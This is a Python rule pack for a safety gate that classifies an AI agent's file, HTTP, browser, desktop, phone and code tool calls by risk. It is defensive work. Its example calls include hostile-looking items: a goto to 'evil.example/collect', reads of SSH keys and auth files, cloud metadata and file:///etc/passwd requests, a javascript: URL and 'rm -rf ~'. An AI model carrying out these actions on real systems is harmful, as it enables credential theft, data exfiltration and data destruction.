"""Rules over non-shell tool calls: files, HTTP, browser, desktop, phone and code."""

from __future__ import annotations

import ipaddress
import re
from urllib.parse import urlsplit

from engine.gate.paths import (escapes_workspace, is_auth_file, is_root, is_secret, is_startup, is_system, is_tool_config,
                              is_unseen_config)
from engine.gate.packs.model import CATASTROPHIC, DANGEROUS, IRREVERSIBLE, LOCAL, CallRule, Pack
from engine.gate.verdict import Level
from engine.tier import Tier
from engine.tools.call import ToolCall

LARGE_BODY = 64 * 1024

# The tool names these rules are written against, by prefix. A runtime's classifier
# knows tools from its registry instead; this stands in only outside a runtime.
VOCABULARY: dict[str, frozenset[str]] = {
    "shell": frozenset({"run"}),
    "code": frozenset({"run"}),
    "fs": frozenset({"write", "append", "delete", "move", "mkdir", "read", "list", "stat"}),
    "http": frozenset({"request"}),
    "browser": frozenset({"goto", "navigate", "click", "fill", "type", "scroll", "screenshot", "back", "forward",
                          "reload", "wait", "select", "check", "hover", "press", "snapshot", "observe"}),
    "desktop": frozenset({"click", "double_click", "right_click", "type", "key", "hotkey", "scroll", "move", "drag",
                          "screenshot", "launch", "open", "wait", "observe"}),
    "android": frozenset({"tap", "click", "long_press", "type", "swipe", "back", "home", "screenshot", "launch", "wait",
                          "uninstall", "clear_data", "factory_reset", "wipe", "send_sms", "send_message", "send_email",
                          "call", "install", "grant", "adb", "observe", "set_text", "app_start", "app_stop"}),
}

_SEND = re.compile(r"(?i)\b(?:send|pay|purchase|buy|transfer|order|checkout|check out|place order|donate|publish|post|"
                   r"submit payment|confirm payment|wire|tweet|reply|share|subscribe|book now|sign|approve)\b")
_DELETE = re.compile(r"(?i)\b(?:delete|remove|erase|destroy|discard|unsubscribe|close account|deactivate|revoke|wipe|reset)\b")
_SECRET_FIELD = re.compile(r"(?i)pass(?:word|wd|code|phrase)?|\bpin\b|otp|2fa|cvv|cvc|card.?number|ssn|secret|token|api.?key")
_METADATA = frozenset({"169.254.169.254", "metadata.google.internal", "fd00:ec2::254", "100.100.100.200", "169.254.170.2"})
_ADMIN_PORTS = frozenset({2375, 2376, 2379, 4646, 5984, 6443, 8500, 8200, 9000, 9200, 10250, 15672, 5601, 8081, 3000, 27017})
_ADMIN_PATH = re.compile(r"(?i)/(?:admin|console|manage|actuator|debug|_cluster|api/v\d/(?:secrets|sys)|v1/sys|jmx|phpmyadmin)")
_TERMINALS = re.compile(r"(?i)\b(?:terminal|iterm|xterm|konsole|gnome-terminal|cmd|powershell|pwsh|regedit|bash|sh|zsh|osascript|script editor)\b")
_DANGEROUS_KEYS = re.compile(r"(?i)(?:ctrl|control)\s*\+\s*alt\s*\+\s*(?:del|delete|backspace)|(?:cmd|command|ctrl)\s*\+\s*(?:q|w)\b|alt\s*\+\s*f4|shift\s*\+\s*(?:del|delete)")


def _s(call: ToolCall, key: str) -> str:
    """A string argument, or the same field of the call's `target` (`{"role", "name"}`, `{"label"}`, ...)."""
    value = call.args.get(key)
    if value is None and isinstance(call.args.get("target"), dict):
        value = call.args["target"].get(key)
    return value if isinstance(value, str) else ""


def _host(url: str) -> str:
    try:
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""


def _loopback(host: str) -> bool:
    if host in ("localhost", "localhost.localdomain") or host.endswith(".localhost"):
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def _private(host: str) -> bool:
    try:
        address = ipaddress.ip_address(host)
    except ValueError:
        return False
    return address.is_private or address.is_link_local


def _port(url: str) -> int | None:
    try:
        return urlsplit(url).port
    except ValueError:
        return None


def _admin(url: str) -> bool:
    return _loopback(_host(url)) and (_port(url) in _ADMIN_PORTS or _ADMIN_PATH.search(urlsplit(url).path or "") is not None)


def _paths(call: ToolCall) -> list[str]:
    return [p for p in (_s(call, "path"), _s(call, "src"), _s(call, "dst")) if p]


def _tool_config(call: ToolCall) -> str | None:
    """The first tool configuration path a file call changes (reading, listing and stat do not)."""
    if call.tool in ("fs.read", "fs.list", "fs.stat"):
        return None
    return next((path for path in _paths(call) if is_tool_config(path)), None)


def _unseen_config(call: ToolCall) -> str | None:
    """The first hook or hidden setting a file call changes (`is_unseen_config`)."""
    found = _tool_config(call)
    return next((path for path in _paths(call) if is_unseen_config(path)), None) if found else None


def _secret_touched(call: ToolCall) -> str | None:
    """What a file call does to a key or credential file, named for the approver (`fs.read ~/.ssh/id_rsa`)."""
    path = next((path for path in _paths(call) if is_secret(path)), None)
    return None if path is None else f"{call.tool} {path}"


def _label(call: ToolCall) -> str:
    """The words naming the control a call acts on: its name, label, selector or (for a click) its text."""
    keys = ("name", "text", "label", "selector", "css", "xpath", "placeholder", "role", "target", "description",
            "resource_id")
    given = call.args.get("target")
    target = given if isinstance(given, dict) else {}
    words = [_s(call, k) for k in keys if k != "text" or call.tool.endswith(("click", "tap"))]
    if "text" in target and isinstance(target["text"], str):
        words.append(target["text"])
    return " ".join(words)


def _origin(url: str) -> str:
    try:
        parts = urlsplit(url)
    except ValueError:
        return ""
    return f"{parts.scheme}://{parts.netloc}".lower()


def _method(call: ToolCall) -> str:
    return (_s(call, "method") or "GET").upper()


def _body_size(call: ToolCall) -> int:
    body = call.args.get("body")
    if body is None:
        return 0
    return len(body.encode() if isinstance(body, str) else repr(body).encode())


def _r(id: str, level: Level, themes: str, reason: str, tools: str, test, tier: Tier = LOCAL,
       examples: tuple = (), counter: tuple = ()) -> CallRule:
    return CallRule(id, level, tuple(themes.split()), reason, tuple(tools.split()), test, tier, tuple(examples), tuple(counter))


def _fs(tool: str, **args) -> dict:
    return {"tool": tool, "args": args}


RULES = [
    _r("tool.unknown", DANGEROUS, "exec", "no rules know this tool; a person should look", "-", lambda c: False,
       examples=(_fs("teleport.now", where="x"),), counter=(_fs("fs.write", path="a.txt", content="x"),)),
    _r("fs.delete", DANGEROUS, "fs", "deletes a file", "fs.delete", lambda c: True,
       examples=(_fs("fs.delete", path="notes.txt"),), counter=(_fs("fs.write", path="notes.txt", content=""),)),
    _r("fs.delete-root", CATASTROPHIC, "fs", "deletes a filesystem root or home directory", "fs.delete fs.move",
       lambda c: is_root(_s(c, "path") or _s(c, "src")), IRREVERSIBLE,
       examples=(_fs("fs.delete", path="/"), _fs("fs.delete", path="~")), counter=(_fs("fs.delete", path="build"),)),
    _r("fs.tool-auth-file", CATASTROPHIC, "fs creds", "changes an account, sudo or boot file", "fs.*",
       lambda c: any(is_auth_file(p) for p in _paths(c)) and c.tool != "fs.read", IRREVERSIBLE,
       examples=(_fs("fs.write", path="/etc/passwd", content="x"),), counter=(_fs("fs.write", path="passwd", content="x"),)),
    CallRule("fs.tool-config", DANGEROUS, ("exec", "injection"),
             "changes a tool's configuration, hooks or build script (later commands run what it names)",
             ("fs.*",), _tool_config, LOCAL, cite=True,
             examples=(_fs("fs.append", path=".git/config", content="x"), _fs("fs.move", src="x", dst=".git/hooks/pre-commit"),
                       _fs("fs.write", path="Makefile", content="x"), _fs("fs.mkdir", path=".vscode")),
             counter=(_fs("fs.write", path="src/app.py", content="x"), _fs("fs.read", path=".git/config"))),
    CallRule("fs.unseen-config", DANGEROUS, ("exec", "injection"),
             "changes hooks or settings that git, an editor or the shell run unseen, outside the sandbox",
             ("fs.*",), _unseen_config, IRREVERSIBLE, cite=True,
             examples=(_fs("fs.append", path=".git/config", content="x"), _fs("fs.write", path=".envrc", content="x"),
                       _fs("fs.move", src="x", dst=".git/hooks/pre-commit")),
             counter=(_fs("fs.write", path="Makefile", content="x"), _fs("fs.read", path=".git/config"))),
    _r("fs.tool-system", DANGEROUS, "fs", "changes a file under a system directory", "fs.*",
       lambda c: any(is_system(p) for p in _paths(c)) and c.tool != "fs.read", IRREVERSIBLE,
       examples=(_fs("fs.write", path="/etc/hosts", content="x"), _fs("fs.mkdir", path="/usr/local/x")),
       counter=(_fs("fs.write", path="etc/hosts", content="x"),)),
    _r("fs.tool-startup", DANGEROUS, "fs evasion", "changes a start-up file, crontab or service unit", "fs.*",
       lambda c: any(is_startup(p) for p in _paths(c)) and c.tool != "fs.read", IRREVERSIBLE,
       examples=(_fs("fs.append", path="~/.bashrc", content="x"), _fs("fs.write", path="/etc/cron.d/job", content="x")),
       counter=(_fs("fs.append", path="bashrc.txt", content="x"),)),
    CallRule("fs.tool-secret", DANGEROUS, ("fs", "creds"),
             "reads, writes, moves or deletes keys or credentials (a secret read leaves with the next model call)",
             ("fs.*",), _secret_touched, IRREVERSIBLE, cite=True,
             examples=(_fs("fs.write", path="~/.ssh/id_rsa", content="x"), _fs("fs.move", src=".env", dst="x"),
                       _fs("fs.read", path="~/.codex/auth.json")),
             counter=(_fs("fs.write", path="src/env.py", content="x"), _fs("fs.read", path="~/.ssh/known_hosts"))),
    _r("fs.tool-outside", DANGEROUS, "fs", "writes outside the agent's workspace", "fs.*",
       lambda c: any(escapes_workspace(p) for p in _paths(c)) and c.tool != "fs.read",
       examples=(_fs("fs.write", path="/tmp/x", content="x"), _fs("fs.write", path="../x", content="x")),
       counter=(_fs("fs.write", path="docs/x.md", content="x"),)),
    _r("http.egress", DANGEROUS, "net", "the request leaves this machine", "http.request",
       lambda c: not _loopback(_host(_s(c, "url"))) and _method(c) not in ("GET", "HEAD", "OPTIONS"), IRREVERSIBLE,
       examples=({"tool": "http.request", "args": {"method": "POST", "url": "https://api.example/x"}},),
       counter=({"tool": "http.request", "args": {"method": "GET", "url": "https://api.example/x"}},)),
    _r("http.read", Level.SAFE, "net", "a read-only request to another host (egress: the URL leaves the machine)",
       "http.request", lambda c: not _loopback(_host(_s(c, "url"))) and _method(c) in ("GET", "HEAD", "OPTIONS"), IRREVERSIBLE,
       examples=({"tool": "http.request", "args": {"method": "GET", "url": "https://api.example/x"}},),
       counter=({"tool": "http.request", "args": {"method": "GET", "url": "http://127.0.0.1:8000/"}},)),
    _r("http.write-method", DANGEROUS, "net", "the request changes or deletes data on the server", "http.request",
       lambda c: _method(c) in ("POST", "PUT", "PATCH", "DELETE"), IRREVERSIBLE,
       examples=({"tool": "http.request", "args": {"method": "DELETE", "url": "http://localhost:9200/idx"}},),
       counter=({"tool": "http.request", "args": {"method": "GET", "url": "http://localhost:9200/idx"}},)),
    _r("http.large-body", DANGEROUS, "net", "the request uploads a large body", "http.request",
       lambda c: _body_size(c) > LARGE_BODY, IRREVERSIBLE,
       examples=({"tool": "http.request", "args": {"method": "PUT", "url": "https://x.example", "body": "x" * 70000}},),
       counter=({"tool": "http.request", "args": {"method": "PUT", "url": "https://x.example", "body": "x"}},)),
    _r("http.metadata", DANGEROUS, "net creds", "asks a cloud metadata service (it hands out credentials)",
       "http.request browser.navigate browser.goto", lambda c: _host(_s(c, "url")) in _METADATA, IRREVERSIBLE,
       examples=({"tool": "http.request", "args": {"method": "GET", "url": "http://169.254.169.254/latest/meta-data/"}},),
       counter=({"tool": "http.request", "args": {"method": "GET", "url": "https://example.com/"}},)),
    _r("http.loopback-admin", DANGEROUS, "net", "reaches an admin interface on this machine",
       "http.request browser.navigate browser.goto",
       lambda c: _admin(_s(c, "url")),
       examples=({"tool": "http.request", "args": {"method": "GET", "url": "http://localhost:2375/containers/json"}},
                 {"tool": "browser.navigate", "args": {"url": "http://127.0.0.1:8080/admin"}}),
       counter=({"tool": "http.request", "args": {"method": "GET", "url": "http://localhost:8000/index.html"}},)),
    _r("http.private-network", DANGEROUS, "net", "reaches a host on the private network",
       "http.request browser.navigate browser.goto",
       lambda c: _private(_host(_s(c, "url"))) and not _loopback(_host(_s(c, "url"))) and _host(_s(c, "url")) not in _METADATA,
       examples=({"tool": "http.request", "args": {"method": "GET", "url": "http://192.168.1.1/"}},),
       counter=({"tool": "http.request", "args": {"method": "GET", "url": "https://example.com/"}},)),
    _r("http.scheme", DANGEROUS, "net fs", "uses a scheme other than http(s) (file://, gopher://, …)", "http.request",
       lambda c: urlsplit(_s(c, "url")).scheme.lower() not in ("http", "https"),
       examples=({"tool": "http.request", "args": {"method": "GET", "url": "file:///etc/passwd"}},),
       counter=({"tool": "http.request", "args": {"method": "GET", "url": "https://example.com/"}},)),
    _r("http.credentials", DANGEROUS, "net creds", "sends credentials in headers or the URL", "http.request",
       lambda c: bool(urlsplit(_s(c, "url")).password) or any(
           re.fullmatch(r"(?i)authorization|cookie|x-api-key|api-key|x-auth-token|proxy-authorization", str(k))
           for k in (c.args.get("headers") or {})), IRREVERSIBLE,
       examples=({"tool": "http.request", "args": {"method": "GET", "url": "https://x.example", "headers": {"Authorization": "Bearer t"}}},),
       counter=({"tool": "http.request", "args": {"method": "GET", "url": "https://x.example", "headers": {"Accept": "*/*"}}},)),
    _r("browser.file-url", DANGEROUS, "fs creds", "opens a local file in the browser", "browser.navigate browser.goto",
       lambda c: _s(c, "url").lower().startswith(("file:", "view-source:file:", "chrome://", "about:config")),
       examples=({"tool": "browser.navigate", "args": {"url": "file:///etc/passwd"}},),
       counter=({"tool": "browser.navigate", "args": {"url": "https://example.com/"}},)),
    _r("browser.script-url", DANGEROUS, "injection", "navigates to a javascript: or data: URL", "browser.navigate browser.goto",
       lambda c: _s(c, "url").strip().lower().startswith(("javascript:", "data:", "vbscript:")),
       examples=({"tool": "browser.navigate", "args": {"url": "javascript:alert(1)"}},),
       counter=({"tool": "browser.navigate", "args": {"url": "https://example.com/"}},)),
    _r("ui.send", DANGEROUS, "net", "presses a control that sends, pays, buys, posts or transfers",
       "browser.click browser.press desktop.click android.tap android.click", lambda c: _SEND.search(_label(c)) is not None, IRREVERSIBLE,
       examples=({"tool": "browser.click", "args": {"role": "button", "name": "Send"}},
                 {"tool": "browser.click", "args": {"target": {"role": "button", "name": "Place order"}}},
                 {"tool": "android.click", "args": {"target": {"text": "Send"}}}),
       counter=({"tool": "browser.click", "args": {"role": "link", "name": "Inbox"}},)),
    _r("ui.delete", DANGEROUS, "fs net", "presses a control that deletes or removes something",
       "browser.click desktop.click android.tap android.click", lambda c: _DELETE.search(_label(c)) is not None, IRREVERSIBLE,
       examples=({"tool": "browser.click", "args": {"role": "button", "name": "Delete repository"}},
                 {"tool": "browser.click", "args": {"target": {"text": "Yes, delete"}}}),
       counter=({"tool": "browser.click", "args": {"role": "button", "name": "Save draft"}},)),
    _r("ui.secret-field", DANGEROUS, "creds", "types into a password or payment field",
       "browser.type browser.fill desktop.type android.type android.set_text",
       lambda c: _s(c, "field_type").lower() in ("password", "cc-number", "cc-csc")
       or _SECRET_FIELD.search(" ".join(_s(c, k) for k in ("selector", "css", "xpath", "placeholder", "name", "role",
                                                              "label", "resource_id"))) is not None,
       examples=({"tool": "browser.type", "args": {"selector": "#password", "text": "hunter2"}},
                 {"tool": "browser.type", "args": {"role": "textbox", "name": "Email", "field_type": "password", "text": "x"}},
                 {"tool": "browser.fill", "args": {"target": {"label": "Password"}, "text": "hunter2"}}),
       counter=({"tool": "browser.type", "args": {"selector": "#search", "text": "shoes"}},)),
    _r("ui.card-number", DANGEROUS, "creds", "types what looks like a payment card number",
       "browser.type browser.fill desktop.type android.type android.set_text", lambda c: re.search(r"\b(?:\d[ -]?){13,19}\b", _s(c, "text")) is not None,
       examples=({"tool": "browser.type", "args": {"selector": "#x", "text": "4111 1111 1111 1111"}},),
       counter=({"tool": "browser.type", "args": {"selector": "#x", "text": "42"}},)),
    CallRule("browser.egress", DANGEROUS, ("net",), "leaves the origins the task allows (egress)", ("browser.goto",),
             lambda c: not _loopback(_host(_s(c, "url"))) and _origin(_s(c, "url")).startswith(("http:", "https:")),
             IRREVERSIBLE, cite=True, scoped=True,
             examples=({"tool": "browser.goto", "args": {"url": "https://evil.example/collect?d=1"}},),
             counter=({"tool": "browser.goto", "args": {"url": "http://127.0.0.1:8000/contacts"}},)),
    _r("desktop.launch-shell", DANGEROUS, "exec", "opens a terminal, shell or registry editor",
       "desktop.launch desktop.open", lambda c: _TERMINALS.search(_s(c, "app") or _s(c, "name") or _s(c, "path")) is not None,
       examples=({"tool": "desktop.launch", "args": {"app": "Terminal"}},),
       counter=({"tool": "desktop.launch", "args": {"app": "Calculator"}},)),
    _r("desktop.key-combo", DANGEROUS, "exec", "presses a key combination that closes, quits or deletes",
       "desktop.key desktop.hotkey browser.press", lambda c: _DANGEROUS_KEYS.search(_s(c, "keys") or _s(c, "key") or _s(c, "combo")) is not None,
       examples=({"tool": "desktop.key", "args": {"keys": "ctrl+alt+delete"}},),
       counter=({"tool": "desktop.key", "args": {"keys": "ctrl+c"}},)),
    _r("desktop.type-command", DANGEROUS, "exec", "types a command line followed by Enter into a window",
       "desktop.type", lambda c: _s(c, "text").endswith(("\n", "\r")) and len(_s(c, "text").split()) > 1,
       examples=({"tool": "desktop.type", "args": {"text": "rm -rf ~\n"}},),
       counter=({"tool": "desktop.type", "args": {"text": "hello"}},)),
    _r("android.uninstall", DANGEROUS, "exec", "uninstalls an app and its data", "android.uninstall android.clear_data",
       lambda c: True, IRREVERSIBLE, examples=({"tool": "android.uninstall", "args": {"package": "com.x"}},),
       counter=({"tool": "android.tap", "args": {"name": "Settings"}},)),
    _r("android.factory-reset", CATASTROPHIC, "fs", "erases the whole phone", "android.factory_reset android.wipe",
       lambda c: True, IRREVERSIBLE, examples=({"tool": "android.factory_reset", "args": {}},),
       counter=({"tool": "android.home", "args": {}},)),
    _r("android.message", DANGEROUS, "net", "sends a message or places a call",
       "android.send_sms android.send_message android.call android.send_email", lambda c: True, IRREVERSIBLE,
       examples=({"tool": "android.send_sms", "args": {"to": "+100", "text": "hi"}},),
       counter=({"tool": "android.type", "args": {"text": "hi"}},)),
    _r("android.install", DANGEROUS, "exec", "installs an app or grants it permissions",
       "android.install android.grant android.adb", lambda c: True, LOCAL,
       examples=({"tool": "android.install", "args": {"apk": "x.apk"}},), counter=({"tool": "android.back", "args": {}},)),
    _r("code.exec", DANGEROUS, "exec", "runs code the agent wrote", "code.run", lambda c: True,
       examples=({"tool": "code.run", "args": {"language": "python", "code": "print(1)"}},),
       counter=({"tool": "fs.write", "args": {"path": "x.py", "content": "print(1)"}},)),
]

PACK = Pack("core.tools", "Every non-shell tool: files, HTTP, browser, desktop, phone and code.", calls=RULES, core=True)
